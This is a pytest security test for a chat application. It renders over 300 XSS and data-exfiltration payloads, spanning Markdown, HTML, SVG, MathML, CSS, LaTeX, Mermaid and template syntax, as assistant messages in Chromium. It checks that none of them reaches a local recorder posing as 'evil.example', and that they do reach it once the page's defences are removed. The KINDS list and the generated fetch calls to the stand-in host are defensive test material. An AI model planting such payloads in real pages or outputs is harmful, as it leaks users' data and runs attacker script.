"""What a model, a document or a title says reaches nobody and runs nothing (R7).

Over 300 payloads are shown in Chromium, stored and streamed, whose host names all lead to a
recorder: it must stay silent, nothing may ask this site for what a payload names, and no script of
theirs may run. Shown without the page's defences, the same payloads must reach the recorder.
"""

import contextlib
import re
import socket
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from attenda.core.label import Label
from attenda.core.message import Message, TextPart, text_message
from attenda.serve import gate
from attenda.store import people, sessions
from attenda.store.database import Connection
from tests.security.live import Served, served
from tests.security.test_hostile_page import FLAGS

# U stands for an address on another machine, H for its host, S for a script.
KINDS = [
    # Markdown
    "![a](U)",
    "![a][r]\n\n[r]: U",
    "[r]\n\n[r]: U 'a title'",
    "[![a](U)](U)",
    "![a](<U>)",
    "![a](\nU\n'title')",
    "![](U 'x' =100x100)",
    "<U>",
    "U",
    "![a](//H/leak)",
    "![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>)",
    "[a](javascript:S)",
    "[a](JaVaScRiPt&colon;S)",
    "[a](\x01javascript:S)",
    "[a](java&#10;script:S)",
    "[a](vbscript:S)",
    "[a](data:text/html,<script>S</script>)",
    "[a]: javascript:S\n\n[a]",
    "![a](blob:U)",
    "[^1]\n\n[^1]: ![a](U)",
    "| a |\n|---|\n| ![a](U) |",
    "- [ ] ![a](U)",
    "![a](/api/sessions/leak/stop)",
    "![a](../enter?key=leak)",
    "!&#91;a](U)",
    "![a\\](U)](U)",
    # HTML
    "<img src=U>",
    "<img src='U' srcset='U 2x'>",
    "<IMG SRC=U>",
    "<img/src=U>",
    "<img src=x onerror=S>",
    "<picture><source srcset=U><img></picture>",
    "<script>S</script>",
    "<script src=U></script>",
    "<script type=module>import 'U'</script>",
    "<script>fetch('U')</script>",
    "<iframe src=U></iframe>",
    "<iframe srcdoc='<img src=U>'></iframe>",
    "<object data=U></object>",
    "<embed src=U>",
    "<video src=U poster=U autoplay></video>",
    "<audio src=U autoplay></audio>",
    "<video><track src=U default></video>",
    "<link rel=stylesheet href=U>",
    "<link rel=prefetch href=U>",
    "<link rel=preconnect href=U>",
    "<link rel=dns-prefetch href=//H>",
    "<link rel=modulepreload href=U>",
    "<link rel=icon href=U>",
    "<meta http-equiv=refresh content='0;url=U'>",
    "<base href=U>",
    "<body background=U onload=S>",
    "<table background=U><tr><td background=U>a</table>",
    "<input type=image src=U>",
    "<form action=U><button autofocus onfocus=S>a</button></form>",
    "<details open ontoggle=S>a</details>",
    "<a href=U ping=U autofocus onfocus=S tabindex=1>a</a>",
    "<marquee onstart=S>a</marquee>",
    "<img src=x onerror=S//",
    "<noscript><p title='</noscript><img src=U>'>",
    "<template><img src=U></template><img src=U>",
    "<textarea></textarea><img src=U>",
    "<!--><img src=U>-->",
    "<![CDATA[><img src=U>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='U'?>",
    # SVG and MathML
    "<svg><image href=U /></svg>",
    "<svg><use href=U#a /></svg>",
    "<svg onload=S></svg>",
    "<svg><script>S</script></svg>",
    "<svg><style>@import url(U);</style></svg>",
    "<svg><foreignObject><img src=U></foreignObject></svg>",
    "<svg><animate onbegin=S attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:S /></a></svg>",
    "<svg><feImage href=U /></svg>",
    "<math><mtext><table><mglyph><style><img src=U></style></mglyph></table></mtext></math>",
    "<math href=javascript:S>a</math>",
    # CSS
    "<style>@import 'U';</style>",
    "<style>body{background:url(U)}</style>",
    "<style>@font-face{font-family:x;src:url(U)}*{font-family:x}</style>",
    "<p style='background:url(U)'>a</p>",
    "<p style=\"list-style:url('U')\">a</p>",
    "<div style='width:100px;height:9px;background:image-set(\"U\" 1x)'>a</div>",
    "<p style='cursor:url(U),auto'>a</p>",
    # Formulas, diagrams, templates
    "$$\\includegraphics{U}$$",
    "$\\href{javascript:S}{a}$ $\\url{U}$",
    "\\(\\htmlData{x=U}{a}\\) \\[\\unicode{<img src=U>}\\]",
    "$$\\style{background:url(U)}{a}$$",
    "```mermaid\ngraph TD\nA[<img src=U>] --> B\nclick A \"javascript:S\"\n```",
    "```mermaid\n%%{init:{'themeCSS':'@import url(U)'}}%%\ngraph TD;A-->B\n```",
    "```html\n<img src=U>\n```",
    "```svg\n<svg><image href=U /></svg>\n```",
    "{{constructor.constructor('S')()}} ${S} <%= S %>",
    "[1]<img src=U>[2]",
    "<cite class=cite data-href=U onclick=S>1</cite>",
    "\u202e<img src=U>\u202c",
]  # fmt: skip
FRAMES = ["{}", "Here is the chart.\n\n{}\n\nAnything else?", "> - {}", "{}\n\n`code`"]
HOST = "evil.example"


def _payloads() -> list[str]:
    """Every kind in every frame, each naming its own number."""
    made = []
    for kind in KINDS:
        for frame in FRAMES:
            n = len(made)
            meant = {
                "U": f"https://h{n}.{HOST}/leak?secret={n}",
                "H": f"h{n}.{HOST}",
                "S": f"window.owned={n},fetch(`https://s{n}.{HOST}/leak`)",
            }
            body = re.sub(r"\b[UHS]\b", lambda letter, meant=meant: meant[letter.group()], kind)
            made.append(frame.format(body.replace("\n", "\n> ") if ">" in frame[:1] else body))
    return made


PAYLOADS = _payloads()


@pytest.fixture(scope="module")
def recorder() -> Iterator[tuple[int, list[bytes]]]:
    """A port that the payloads' names lead to, and what came first on each connection to it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def listen() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    with connection:
                        connection.settimeout(2)
                        with contextlib.suppress(OSError):
                            heard.append(connection.recv(400) or b"connected")

        threading.Thread(target=listen, daemon=True).start()
        yield listener.getsockname()[1], heard
        listener.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def browser(chromium: Path, recorder: tuple[int, list[bytes]]) -> Iterator[Browser]:
    rules = f"--host-resolver-rules=MAP *.{HOST} 127.0.0.1:{recorder[0]}"
    flags = [*(flag for flag in FLAGS if "host-resolver" not in flag), rules]
    with sync_playwright() as playwright:
        yield playwright.chromium.launch(executable_path=str(chromium), args=flags)


def _plant(c: Connection, running: Served, texts: Sequence[str]) -> str:
    """A session whose answers are `texts`; its id."""
    stamps = running.house.stamps
    owner = people.principal_of(c, people.OWNER_ID)
    label = Label(integrity="untrusted", readers=frozenset({owner.id}))
    session = sessions.create_session(c, stamps, owner)
    parent = None
    for text in texts:
        for message in (
            text_message("user", "go"),
            Message(role="assistant", parts=(TextPart(text=text),)),
        ):
            stored = sessions.add_message(c, stamps, session.id, message, label, parent_id=parent)
            parent = stored.id
    return session.id


class Watch:
    """What a page asked for that its own code does not ask for."""

    def __init__(self, page: Page, running: Served) -> None:
        self.page, self.asked = page, list[str]()
        page.on("request", lambda one: self._note(one.url, running.address))
        page.on("popup", lambda popup: self.asked.append(f"popup {popup.url}"))
        page.on("dialog", lambda dialog: self.asked.append(f"dialog {dialog.message}"))

    def _note(self, url: str, ours: str) -> None:
        if not url.startswith(ours) or "leak" in url:
            self.asked.append(url)

    def owned(self) -> object:
        """The mark that a payload's script leaves."""
        return self.page.evaluate("window.owned ?? null")


def _enter(browser: Browser, running: Served) -> tuple[Page, Watch]:
    page = browser.new_page()
    watch = Watch(page, running)
    page.goto(f"{running.address}/enter?key={running.house.owner_key}")
    page.wait_for_selector("#composer")
    return page, watch


def test_the_payloads_are_many() -> None:
    assert len(PAYLOADS) >= 300
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.timeout(300)
def test_payloads_reach_nobody(
    browser: Browser, home: Path, recorder: tuple[int, list[bytes]]
) -> None:
    heard = recorder[1]
    heard.clear()
    bare = PAYLOADS[:: len(FRAMES)]
    streamed = iter(bare)
    with served(home, script=lambda _: next(streamed)) as running:
        session = running.write(lambda c: _plant(c, running, PAYLOADS))
        page, watch = _enter(browser, running)
        page.goto(f"{running.address}/chat/{session}")  # all of them, as stored
        expect(page.locator(".message.assistant")).to_have_count(len(PAYLOADS))
        page.wait_for_load_state("networkidle")
        assert (watch.owned(), watch.asked, heard) == (None, [], [])
        page.goto(running.address)  # one of each kind, word by word
        for n in range(len(bare)):
            page.fill("#text", f"payload {n}")
            page.keyboard.press("Enter")
            expect(page.locator(".message.assistant:not(.running)")).to_have_count(n + 1)
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(500)
        assert (watch.owned(), watch.asked, heard) == (None, [], [])


def test_without_defences_payloads_reach_out(
    browser: Browser,
    home: Path,
    recorder: tuple[int, list[bytes]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    heard = recorder[1]
    heard.clear()
    monkeypatch.delitem(gate._HEADERS, "Content-Security-Policy")
    with served(home) as running:
        session = running.write(lambda c: _plant(c, running, PAYLOADS[:: len(FRAMES)]))
        page, watch = _enter(browser, running)
        raw = (
            "import MarkdownIt from '/static/vendor/markdown-it.js';"
            "export function render(text) {"
            "  const html = new MarkdownIt({ html: true, linkify: true }).render(text);"
            "  return document.createRange().createContextualFragment(html);"
            "}"
        )
        page.route(
            "**/static/markdown.js",
            lambda route: route.fulfill(body=raw, content_type="text/javascript"),
        )
        page.goto(f"{running.address}/chat/{session}", wait_until="commit")
        page.wait_for_timeout(3000)
        assert len(set(watch.asked)) > 30
        assert heard
